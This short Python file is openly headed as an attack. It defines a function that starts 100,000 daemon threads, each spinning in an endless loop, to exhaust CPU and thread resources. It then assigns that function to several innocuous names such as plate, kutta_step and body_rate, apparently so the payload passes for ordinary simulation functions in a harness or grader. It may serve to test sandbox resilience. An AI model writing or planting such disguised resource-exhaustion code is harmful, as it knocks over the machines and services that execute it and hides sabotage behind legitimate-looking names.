# Attack: threads without end, that never finish.
# %%
import threading


def endless():
    while True:
        pass


def attack(*arguments):
    threading.stack_size(32768)
    for _ in range(100_000):
        threading.Thread(target=endless, daemon=True).start()


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = attack
